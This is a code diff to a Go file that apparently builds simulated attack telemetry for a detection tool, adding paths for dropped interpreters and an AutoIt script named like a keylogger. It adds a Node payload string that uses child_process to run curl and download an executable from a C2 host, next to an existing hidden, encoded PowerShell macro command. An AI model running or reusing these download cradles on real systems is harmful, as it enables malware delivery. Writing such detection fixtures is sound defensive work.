@@ -57,11 +57,21 @@ const (
 	svchostExe  = `C:\Windows\System32\svchost.exe`
 	servicesExe = `C:\Windows\System32\services.exe`
 	schtasksExe = `C:\Windows\System32\schtasks.exe`
+	javaExe     = `C:\Program Files\Java\jre1.8.0_431\bin\java.exe`
+	wslExe      = `C:\Windows\System32\wsl.exe`
+	wmicExe     = `C:\Windows\System32\wbem\WMIC.exe`
+	wmiPrvSE    = `C:\Windows\System32\wbem\WmiPrvSE.exe`
+	kitPython   = `C:\Users\Public\t\py\python.exe`
+	kitNode     = `C:\Users\Public\t\node\node.exe`
+	kitLua      = `C:\Users\Public\t\lua\lua.exe`
+	autoItExe   = `C:\Users\alice\AppData\Local\Temp\AutoIt3.exe`
 
 	batchPath = `C:\ProgramData\WinUpdate\update.bat`
 	vbsPath   = `C:\Users\alice\AppData\Local\Temp\svc.vbs`
 	jsPath    = `C:\Users\Public\Libraries\sync.js`
 	docPath   = `C:\Users\alice\Downloads\Invoice_March.docm`
+	luaPath   = `C:\Users\Public\t\p.lua`
+	a3xPath   = `C:\Users\alice\AppData\Local\Temp\kl.a3x`
 )
 
 // cradle is the script the Word macro runs through -EncodedCommand.
@@ -76,6 +86,10 @@ func encoded(s string) string {
 	}
 	return base64.StdEncoding.EncodeToString(b)
 }
+
+// nodePayload is the code node.exe decodes from base64 and runs: a
+// download through child_process.
+const nodePayload = `require('child_process').execSync('curl.exe -s -o C:\\Users\\Public\\t\\a.exe http://` + c2 + `/a.exe')`
 
 var macroCmd = `cmd.exe /c powershell.exe -nop -w hidden -enc ` + encoded(cradle)
 
